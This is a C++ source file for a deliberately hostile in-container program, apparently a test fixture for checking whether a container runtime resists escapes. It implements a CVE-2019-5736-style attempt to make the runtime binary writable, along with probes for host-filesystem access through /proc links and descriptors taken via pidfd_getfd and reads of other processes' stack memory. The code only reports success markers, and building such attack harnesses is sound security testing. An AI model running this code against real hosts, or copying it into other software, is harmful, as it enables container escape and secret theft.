// SPDX-License-Identifier: Apache-2.0
// A hostile program inside a container: it attacks every process that appears in its PID namespace while the runtime
// brings one in. It is static and runs until SIGTERM.
//
//   attacker overwrite REPORT
//       CVE-2019-5736: keeps an O_PATH descriptor of each /proc/PID/exe, clears the read-only flag of its mount from
//       within a user namespace of its own, and opens the file for writing
//   attacker watch REPORT MARKER SECRET
//       with CAP_SYS_PTRACE: looks for MARKER, a file of the host, behind /proc/PID/root, /proc/PID/cwd and each
//       descriptor that pidfd_getfd(2) takes, for descriptors of cgroup file systems, and for SECRET in the stack
//   attacker background MODE ...
//       the same in a process that stays when this one, a hook, has ended with success
//
// REPORT holds "ready", then a line for each successful attack: what it reached.
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>

namespace {

int report = -1;

/// Each line once.
void tell(const std::string& line) {
  static std::set<std::string> told;
  if (!told.insert(line).second) return;
  const std::string text = line + "\n";
  [[maybe_unused]] const auto put = ::write(report, text.data(), text.size());
}

/// Where the two processes of `overwrite`, which share their descriptors, meet.
struct Meeting {
  std::atomic<int> fd{-1};      ///< to be attacked; -1 = none
  std::atomic<int> result{-1};  ///< errno of the attack; 0 = the mount is writable now
};

/// The helper: CAP_SYS_ADMIN over its own user namespace is all that mount_setattr(2) asks for.
[[noreturn]] void clear_read_only(Meeting& meeting) {
  ::prctl(PR_SET_PDEATHSIG, SIGKILL);
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
    tell(std::string("unshare: ") + std::strerror(errno));
    ::_exit(1);
  }
  for (;;) {
    const int fd = meeting.fd.load(std::memory_order_acquire);
    if (fd < 0) continue;
    mount_attr writable{};
    writable.attr_clr = MOUNT_ATTR_RDONLY;
    const long done = ::syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable);
    meeting.fd.store(-1, std::memory_order_relaxed);
    meeting.result.store(done == 0 ? 0 : errno, std::memory_order_release);
  }
}

/// Calls `attack` with the pid of each process that comes, again and again while it is there.
template <class F>
[[noreturn]] void hunt(F attack) {
  constexpr int kAhead = 4;
  int next = ::getpid() + 1;
  for (;;) {
    for (int pid = std::max(next - kAhead, 2); pid < next + kAhead; ++pid) {
      if (pid == ::getpid()) continue;
      const bool there = ::kill(pid, 0) == 0 || errno == EPERM;
      if (!there) continue;
      attack(pid);
      next = std::max(next, pid + 1);
    }
  }
}

[[noreturn]] void overwrite() {
  auto* memory = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  auto& meeting = *new (memory) Meeting;
  const long helper = ::syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
  if (helper == 0) clear_read_only(meeting);
  tell("ready");
  int opened = -1;
  hunt([&](int pid) {
    if (pid == helper) return;
    const std::string dir = "/proc/" + std::to_string(pid);
    const int fd = ::open((dir + "/exe").c_str(), O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    meeting.result.store(-1);
    meeting.fd.store(fd, std::memory_order_release);
    while (meeting.result.load(std::memory_order_acquire) < 0) {
    }
    if (meeting.result.load() == 0) {
      if (pid != opened) tell("writable mount of " + std::to_string(pid));
      opened = pid;
    }
    // ETXTBSY: it runs at this moment and could be opened a moment later.
    const int file = ::open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
    if (meeting.result.load() == 0 && (file >= 0 || errno == ETXTBSY)) tell("writable program");
    if (file >= 0) ::close(file);
    ::close(fd);
  });
}

bool is_readable(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd >= 0) ::close(fd);
  return fd >= 0;
}

void look_at_descriptor(int fd, const std::string& marker) {
  struct statfs kind {};
  char name[4096];
  const ssize_t size = ::readlink(("/proc/self/fd/" + std::to_string(fd)).c_str(), name, sizeof name);
  const std::string shown(name, static_cast<std::size_t>(std::max<ssize_t>(size, 0)));
  if (::fstatfs(fd, &kind) == 0 && (kind.f_type == CGROUP_SUPER_MAGIC || kind.f_type == CGROUP2_SUPER_MAGIC))
    tell("cgroup descriptor " + shown);
  struct stat status {};
  if (::fstat(fd, &status) != 0) return;
  // Up to the root of wherever it is, and down again.
  std::string climb;
  for (int i = 0; i < 30; ++i) climb += "../";
  const int file = S_ISDIR(status.st_mode) ? ::openat(fd, (climb + marker).c_str(), O_RDONLY | O_CLOEXEC) : -1;
  if (file >= 0) tell("host directory " + shown);
  if (file >= 0) ::close(file);
  if (marker.starts_with(shown) && shown.size() > 1) tell("host descriptor " + shown);
}

void look_into_stack(int pid, const std::string& secret) {
  FILE* maps = std::fopen(("/proc/" + std::to_string(pid) + "/maps").c_str(), "re");
  if (maps == nullptr) return;
  const int memory = ::open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  char line[4096];
  while (memory >= 0 && std::fgets(line, sizeof line, maps) != nullptr) {
    unsigned long from = 0, to = 0;
    if (std::strstr(line, "[stack]") == nullptr || std::sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
    std::string bytes(to - from, '\0');
    const ssize_t size = ::pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(from));
    if (size > 0 && bytes.find(secret) != std::string::npos) tell("secret in the stack of " + std::to_string(pid));
  }
  if (memory >= 0) ::close(memory);
  std::fclose(maps);
}

[[noreturn]] void watch(const std::string& marker, const std::string& secret) {
  tell("ready");
  hunt([&](int pid) {
    const std::string dir = "/proc/" + std::to_string(pid);
    if (is_readable(dir + "/root" + marker)) tell("host root of " + std::to_string(pid));
    const int handle = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
    for (int number = 3; handle >= 0 && number < 32; ++number) {
      const int taken = static_cast<int>(::syscall(SYS_pidfd_getfd, handle, number, 0));
      if (taken < 0) continue;
      look_at_descriptor(taken, marker);
      ::close(taken);
    }
    if (handle >= 0) ::close(handle);
    if (is_readable(dir + "/cwd/../../../../../../../../../../../../../../../../.." + marker))
      tell("host directory of " + std::to_string(pid));
    look_into_stack(pid, secret);
  });
}

}  // namespace

int main(int argc, char** argv) {
  if (argc > 3 && std::strcmp(argv[1], "background") == 0) {
    --argc;
    ++argv;
    if (::fork() != 0) {
      // The hook ends once its attacker is at work.
      for (std::string text; text.find("ready") == std::string::npos;) {
        char bytes[64]{};
        const int file = ::open(argv[2], O_RDONLY | O_CLOEXEC);
        if (file >= 0 && ::read(file, bytes, sizeof bytes - 1) > 0) text = bytes;
        if (file >= 0) ::close(file);
        ::sched_yield();
      }
      return 0;
    }
    ::setsid();
    for (const int stream : {0, 1, 2}) ::close(stream);
    for (const int stream : {0, 1, 2}) ::dup2(::open("/dev/null", O_RDWR), stream);
  }
  if (argc < 3) return 2;
  ::signal(SIGTERM, [](int) { ::_exit(0); });
  report = ::open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  if (report < 0) return 3;
  const std::string mode = argv[1];
  if (mode == "overwrite") overwrite();
  if (mode == "watch" && argc == 5) watch(argv[3], argv[4]);
  return 2;
}
